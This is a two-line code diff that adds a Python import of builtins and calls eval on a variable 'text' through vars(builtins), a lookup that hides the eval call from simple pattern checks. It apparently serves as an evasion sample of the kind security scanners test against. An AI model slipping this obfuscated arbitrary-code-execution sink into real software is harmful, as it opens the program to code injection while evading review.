@@ -1,0 +1,2 @@
+import builtins
+vars(builtins)["eval"](text)
